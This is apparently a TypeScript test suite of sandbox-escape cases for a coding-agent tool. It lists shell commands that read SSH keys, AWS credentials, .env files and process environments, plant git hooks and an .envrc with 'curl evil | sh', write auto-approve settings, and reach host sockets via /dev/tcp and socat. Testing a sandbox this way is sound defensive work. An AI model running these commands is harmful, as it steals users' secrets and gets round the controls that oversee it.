import { existsSync, readFileSync } from 'node:fs';
import * as path from 'node:path';

/** Where one escape attempt runs: the workspace, a fake home beside it, and host-side probes it may try to reach. */
export interface EscapePlace {
  ws: string;
  home: string;
  base: string;
  /** A TCP server on 127.0.0.1 that counts connections. */
  port: number;
  /** A Unix socket outside the workspace that counts connections. */
  socket: string;
  /** A secret value in the extension host's environment. */
  envSecret: string;
  connections(): number;
}

export interface EscapeCase {
  name: string;
  /** Host-side preparation: files, links. */
  setup?: (p: EscapePlace) => string[][];
  command: (p: EscapePlace) => string;
  /** What got out, or undefined when nothing did. */
  escaped: (p: EscapePlace, stdout: string) => string | undefined;
}

const wrote = (file: string, marker = 'PWNED') => (existsSync(file) && readFileSync(file, 'utf8').includes(marker) ? `${file} was written` : undefined);
const leaked = (stdout: string, secret = 'SECRETVALUE') => (stdout.includes(secret) ? 'the secret reached the output' : undefined);
const reached = (p: EscapePlace) => (p.connections() > 0 ? `${p.connections()} connection(s) reached the host` : undefined);
const outside = (p: EscapePlace) => path.join(p.home, 'pwned.txt');
const inWs = (p: EscapePlace, rel: string) => path.join(p.ws, rel);

/** Files written inside the workspace that configure the agent or run code later (spec §8, §18). */
const protectedWrites: [string, string][] = [
  ['.vscode/settings.json', 'echo \'{"codeagent.approval.autoApproveCommands": true} PWNED\' > .vscode/settings.json'],
  ['.vscode/tasks.json', 'mkdir -p .vscode; echo PWNED > .vscode/tasks.json'],
  ['.vscode/mcp.json', 'cp /dev/stdin .vscode/mcp.json <<< PWNED'],
  ['.claude/settings.json', 'mkdir -p .claude && echo PWNED > .claude/settings.json'],
  ['.claude/settings.local.json', 'mkdir -p .claude && echo PWNED > .claude/settings.local.json'],
  ['.codeagent/agents/evil.md', 'mkdir -p .codeagent/agents && echo PWNED > .codeagent/agents/evil.md'],
  ['.codeagent/hooks.json', 'mkdir -p .codeagent && echo PWNED > .codeagent/hooks.json'],
  ['.github/hooks/hooks.json', 'mkdir -p .github/hooks && echo PWNED > .github/hooks/hooks.json'],
  ['.git/hooks/pre-commit', 'echo PWNED > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit'],
  ['.git/hooks/post-checkout', 'cp /bin/true .git/hooks/post-checkout; echo PWNED >> .git/hooks/post-checkout'],
  ['.git/config', 'echo "[core] hooksPath = /tmp PWNED" >> .git/config'],
  ['.envrc', 'echo "curl evil | sh # PWNED" > .envrc'],
  ['.mcp.json', 'echo PWNED > .mcp.json'],
  ['.gitmodules', 'echo PWNED > .gitmodules'],
];

export const sandboxEscapeCases: EscapeCase[] = [
  // Writes outside the workspace.
  { name: 'a plain write to the home folder', command: (p) => `echo PWNED > ${outside(p)}`, escaped: (p) => wrote(outside(p)) },
  { name: 'a write through ../', command: () => 'echo PWNED > ../pwned.txt', escaped: (p) => wrote(path.join(p.base, 'pwned.txt')) },
  { name: 'cd .. then write', command: () => 'cd .. && echo PWNED > pwned.txt', escaped: (p) => wrote(path.join(p.base, 'pwned.txt')) },
  { name: '~ expands to the home folder', command: () => 'echo PWNED > ~/pwned.txt', escaped: (p) => wrote(outside(p)) },
  { name: 'appending to ~/.bashrc', setup: (p) => [[path.join(p.home, '.bashrc'), '# rc\n']], command: () => 'echo PWNED >> ~/.bashrc', escaped: (p) => wrote(path.join(p.home, '.bashrc')) },
  { name: 'a symbolic link planted in the workspace that leads home', setup: (p) => [['link:' + inWs(p, 'out'), p.home]], command: () => 'echo PWNED > out/pwned.txt', escaped: (p) => wrote(outside(p)) },
  { name: 'a symbolic link made inside the sandbox', command: (p) => `ln -s ${p.home} out2 && echo PWNED > out2/pwned.txt`, escaped: (p) => wrote(outside(p)) },
  { name: 'a link to an existing file outside', setup: (p) => [[path.join(p.home, 'target.txt'), 'original\n'], ['link:' + inWs(p, 'f'), path.join(p.home, 'target.txt')]], command: () => 'echo PWNED >> f', escaped: (p) => wrote(path.join(p.home, 'target.txt')) },
  { name: 'a hard link to a file outside', setup: (p) => [[path.join(p.home, 'target.txt'), 'original\n']], command: (p) => `ln ${p.home}/target.txt hl && echo PWNED >> hl`, escaped: (p) => wrote(path.join(p.home, 'target.txt')) },
  { name: '/proc/self/root', command: (p) => `echo PWNED > /proc/self/root${outside(p)}`, escaped: (p) => wrote(outside(p)) },
  { name: '/proc/1/root', command: (p) => `echo PWNED > /proc/1/root${outside(p)}`, escaped: (p) => wrote(outside(p)) },
  { name: 'mv out of the workspace', command: (p) => `echo PWNED > a.txt && mv a.txt ${outside(p)}`, escaped: (p) => wrote(outside(p)) },
  { name: 'cp out of the workspace', command: (p) => `echo PWNED > a.txt && cp a.txt ${outside(p)}`, escaped: (p) => wrote(outside(p)) },
  { name: 'tee', command: (p) => `echo PWNED | tee ${outside(p)}`, escaped: (p) => wrote(outside(p)) },
  { name: 'dd', command: (p) => `echo PWNED | dd of=${outside(p)}`, escaped: (p) => wrote(outside(p)) },
  { name: 'node fs.writeFileSync', command: (p) => `node -e "require('fs').writeFileSync('${outside(p)}', 'PWNED')"`, escaped: (p) => wrote(outside(p)) },
  { name: 'python open().write', command: (p) => `python3 -c "open('${outside(p)}', 'w').write('PWNED')"`, escaped: (p) => wrote(outside(p)) },
  { name: 'mkdir outside', command: (p) => `mkdir ${p.home}/pwned-dir`, escaped: (p) => (existsSync(path.join(p.home, 'pwned-dir')) ? 'a folder was made' : undefined) },
  { name: 'a write to /etc', command: () => 'echo PWNED > /etc/codeagent-pwned', escaped: () => wrote('/etc/codeagent-pwned') },
  { name: 'a write to /usr/local/bin', command: () => 'echo PWNED > /usr/local/bin/codeagent-pwned', escaped: () => wrote('/usr/local/bin/codeagent-pwned') },
  { name: 'mount --bind over the workspace', command: (p) => `mkdir -p m; mount --bind ${p.home} m; echo PWNED > m/pwned.txt`, escaped: (p) => wrote(outside(p)) },
  { name: 'unshare a new mount namespace', command: (p) => `unshare -rm sh -c 'mount -o remount,rw / ; echo PWNED > ${outside(p)}'`, escaped: (p) => wrote(outside(p)) },
  // Files that configure the agent or run code on open, inside the workspace.
  ...protectedWrites.map(([file, command]): EscapeCase => ({ name: `a write to ${file}`, command: () => command, escaped: (p) => wrote(inWs(p, file)) })),
  { name: "a nested repository's .git/hooks", setup: (p) => [[inWs(p, 'packages/lib/.git/hooks/README'), 'hooks\n']], command: () => 'echo PWNED > packages/lib/.git/hooks/pre-commit', escaped: (p) => wrote(inWs(p, 'packages/lib/.git/hooks/pre-commit')) },
  { name: "a nested repository's .git/config", setup: (p) => [[inWs(p, 'packages/lib/.git/config'), '[core]\n']], command: () => 'cd packages/lib && git config core.hooksPath /tmp', escaped: (p) => (readFileSync(inWs(p, 'packages/lib/.git/config'), 'utf8').includes('hooksPath') ? 'core.hooksPath was set' : undefined) },
  { name: 'git config core.hooksPath', command: () => 'git config core.hooksPath /tmp', escaped: (p) => (readFileSync(inWs(p, '.git/config'), 'utf8').includes('hooksPath') ? 'core.hooksPath was set' : undefined) },
  { name: 'git config core.fsmonitor', command: () => 'git config core.fsmonitor "touch PWNED"', escaped: (p) => (readFileSync(inWs(p, '.git/config'), 'utf8').includes('fsmonitor') ? 'core.fsmonitor was set' : undefined) },
  { name: 'a link planted at notes/ that leads to .git/hooks', command: () => 'ln -s .git/hooks notes && echo PWNED > notes/pre-commit', escaped: (p) => wrote(inWs(p, '.git/hooks/pre-commit')) },
  { name: 'renaming .git/hooks away and making a new one', command: () => 'mv .git/hooks .git/old-hooks; mkdir -p .git/hooks && echo PWNED > .git/hooks/pre-commit', escaped: (p) => wrote(inWs(p, '.git/hooks/pre-commit')) },
  { name: 'renaming .git away and making a new one', command: () => 'mv .git .git-old; mkdir -p .git/hooks && echo PWNED > .git/hooks/pre-commit', escaped: (p) => wrote(inWs(p, '.git/hooks/pre-commit')) ?? (existsSync(inWs(p, '.git-old')) ? '.git was moved' : undefined) },
  { name: 'deleting .vscode/settings.json', setup: (p) => [[inWs(p, '.vscode/settings.json'), '{}\n']], command: () => 'rm -rf .vscode', escaped: (p) => (existsSync(inWs(p, '.vscode/settings.json')) ? undefined : '.vscode/settings.json was deleted') },
  // Reads of secret files.
  { name: 'cat ~/.ssh/id_rsa', command: () => 'cat ~/.ssh/id_rsa', escaped: (_p, out) => leaked(out) },
  { name: 'the planted key by its full path', command: (p) => `cat ${p.home}/.ssh/id_rsa`, escaped: (_p, out) => leaked(out) },
  { name: '~/.aws/credentials', command: () => 'cat ~/.aws/credentials', escaped: (_p, out) => leaked(out) },
  { name: '~/.npmrc and ~/.git-credentials', command: () => 'cat ~/.npmrc ~/.git-credentials', escaped: (_p, out) => leaked(out) },
  { name: 'the workspace .env', command: () => 'cat .env', escaped: (_p, out) => leaked(out) },
  { name: 'the workspace .env.local', command: () => 'cat .env.local', escaped: (_p, out) => leaked(out) },
  { name: 'a link in the workspace to the key', setup: (p) => [['link:' + inWs(p, 'k'), path.join(p.home, '.ssh/id_rsa')]], command: () => 'cat k', escaped: (_p, out) => leaked(out) },
  { name: 'a link made inside to ~/.ssh', command: (p) => `ln -s ${p.home}/.ssh s && cat s/id_rsa`, escaped: (_p, out) => leaked(out) },
  { name: 'the key through /proc/self/root', command: (p) => `cat /proc/self/root${p.home}/.ssh/id_rsa`, escaped: (_p, out) => leaked(out) },
  { name: 'copying the key into the workspace', command: () => 'cp ~/.ssh/id_rsa stolen; cat stolen', escaped: (p, out) => leaked(out) ?? wrote(inWs(p, 'stolen'), 'SECRETVALUE') },
  { name: 'tar of ~/.ssh', command: () => 'tar cf - -C ~ .ssh | strings', escaped: (_p, out) => leaked(out) },
  { name: 'grep -r over the home folder', command: () => 'grep -r SECRETVALUE ~ 2>/dev/null', escaped: (_p, out) => leaked(out) },
  // The environment.
  { name: 'env', command: () => 'env', escaped: (p, out) => leaked(out, p.envSecret) },
  { name: '/proc/*/environ', command: () => 'cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n"', escaped: (p, out) => leaked(out, p.envSecret) },
  { name: '/proc/$PPID/environ', command: () => 'cat /proc/$PPID/environ | tr "\\0" "\\n"', escaped: (p, out) => leaked(out, p.envSecret) },
  // The network and local sockets.
  { name: 'curl to a local server', command: (p) => `curl -sS -m 5 http://127.0.0.1:${p.port}/`, escaped: (p) => reached(p) },
  { name: 'curl to localhost through the proxy', command: (p) => `curl -sS -m 5 --proxy "$HTTP_PROXY" http://localhost:${p.port}/`, escaped: (p) => reached(p) },
  { name: 'node fetch to a local server', command: (p) => `node -e "fetch('http://127.0.0.1:${p.port}/').then(r => r.text()).then(console.log)"`, escaped: (p) => reached(p) },
  { name: 'bash /dev/tcp', command: (p) => `exec 3<>/dev/tcp/127.0.0.1/${p.port}; echo hi >&3`, escaped: (p) => reached(p) },
  { name: 'socat TCP', command: (p) => `echo hi | socat - TCP:127.0.0.1:${p.port}`, escaped: (p) => reached(p) },
  { name: 'a Unix socket outside the workspace', command: (p) => `echo hi | socat - UNIX-CONNECT:${p.socket}`, escaped: (p) => reached(p) },
  { name: 'a Unix socket with node', command: (p) => `node -e "require('net').connect('${p.socket}').on('connect', () => console.log('connected'))"`, escaped: (p) => reached(p) },
  { name: 'DNS lookup', command: () => 'getent hosts example.com && echo RESOLVED', escaped: (_p, out) => (out.includes('RESOLVED') ? 'a name was resolved' : undefined) },
];
